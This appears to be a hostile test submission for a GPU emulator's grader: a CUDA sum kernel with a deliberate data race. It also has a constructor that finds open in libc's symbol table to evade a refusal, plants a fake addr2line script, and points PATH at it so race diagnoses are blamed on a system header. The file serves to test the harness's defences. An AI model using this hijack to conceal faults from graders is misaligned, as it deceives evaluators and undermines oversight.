// expect: gpu=race|wrong-result|pass emu=race  args=--sizes=4099,--blocks=256 -- Every thread adds into the result with a plain +=, a race, and the file hides where: a constructor writes a program named addr2line into the graded process's own folder (its working folder, writable) and sets PATH to that folder, so that the emulator, which spawns addr2line by name to put a line on each diagnosis (simt/spawn_read.c, posix_spawnp with the process's environment), runs the submission's program instead, which answers that every address is in a system header (a line the diagnosis would not blame on the submission).  open is refused by name, so it is taken from libc's dynamic symbol table in memory.  The emulator finds addr2line on the PATH the grader started with and runs it with an environment of its own (spawn_read.c): the race is named at its line.  Graded by single-hostile.sh, which checks the line.
// mistake: every thread adds into the result with a plain +=; a program of its own run as the emulator's addr2line
#include <cstddef>
#include <cstdio>
#include <cstring>
#include <cstdint>
#include <cstdlib>
#include <elf.h>
#include <fcntl.h>
#include <unistd.h>

// libc's function called name, from the dynamic symbol table of the image
// that holds puts (its ELF header is on the first page of the image).
static void *from_libc(const char *name)
{
    const unsigned char *page = (const unsigned char *)((uintptr_t)(void *)&puts & ~(uintptr_t)0xfff);
    while (!(page[0] == 0x7f && page[1] == 'E' && page[2] == 'L' && page[3] == 'F'))
        page -= 0x1000;
    uintptr_t base = (uintptr_t)page;
    const Elf64_Ehdr *h = (const Elf64_Ehdr *)base;
    const Elf64_Dyn *d = nullptr;
    for (int i = 0; i < h->e_phnum && !d; i++) {
        const Elf64_Phdr *p = (const Elf64_Phdr *)(base + h->e_phoff) + i;
        if (p->p_type == PT_DYNAMIC)
            d = (const Elf64_Dyn *)(base + p->p_vaddr);
    }
    uintptr_t sym = 0, str = 0;
    for (; d && d->d_tag != DT_NULL; d++) {
        uintptr_t v = d->d_un.d_ptr < base ? base + d->d_un.d_ptr : d->d_un.d_ptr;
        if (d->d_tag == DT_SYMTAB)
            sym = v;
        else if (d->d_tag == DT_STRTAB)
            str = v;
    }
    for (const Elf64_Sym *s = (const Elf64_Sym *)sym + 1; sym && (uintptr_t)s < str; s++)
        if (s->st_value && std::strcmp((const char *)str + s->st_name, name) == 0)
            return (void *)(base + s->st_value);
    return nullptr;
}

__attribute__((constructor)) static void plant()
{
    typedef int (*open_fn)(const char *, int, ...);
    open_fn op = (open_fn)from_libc("open");
    int fd = op ? op("addr2line", O_CREAT | O_WRONLY | O_TRUNC, 0755) : -1;
    static const char script[] = "#!/bin/sh\necho /usr/include/stdio.h:1\n";
    if (fd >= 0) {
        printf("planted: %s\n", write(fd, script, sizeof script - 1) > 0 ? "yes" : "no");
        close(fd);
        setenv("PATH", ".", 1);
    } else {
        printf("planted: refused\n");
    }
    fflush(stdout);
}

template <typename T>
__global__ void racy_sum(const T *in, T *out, size_t n)
{
    size_t i = (size_t)blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n)
        *out += in[i];
}

template <typename T>
void sum_atomic(const T *d_input, T *d_result, size_t n, int block)
{
    cudaMemset(d_result, 0, sizeof(T));
    racy_sum<T><<<(unsigned)((n + block - 1) / block), block>>>(d_input, d_result, n);
}

template <typename T>
void sum_two_phase(const T *d_input, T *d_result, size_t n, int block)
{
    sum_atomic(d_input, d_result, n, block);
}
